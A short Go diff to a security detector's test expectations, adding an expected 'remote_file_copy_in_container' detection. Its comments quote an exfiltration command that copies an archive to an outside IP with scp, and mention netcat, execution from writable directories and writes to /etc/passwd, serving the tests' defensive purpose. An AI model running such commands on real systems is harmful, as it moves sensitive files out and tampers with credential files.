@@ -33,6 +33,9 @@ var corpusExpect = map[string]map[string]int{
 		// (docker field only). The host-side `go run` children, `sh -c scp`,
 		// 7z and the plain `nc host 443` (no -e) are not detections.
 		"execution_from_writable_dir": 1,
+		// The exfiltration step: `scp s3nsitiv3.7z natalia@34.116.205.187:~`
+		// from inside the container.
+		"remote_file_copy_in_container": 1,
 	},
 	// vi: security_file_permission on /etc/passwd with mask 2 (MAY_WRITE)
 	// and __x64_sys_write on it, in pod xwing. Not reads: /etc/passwd is
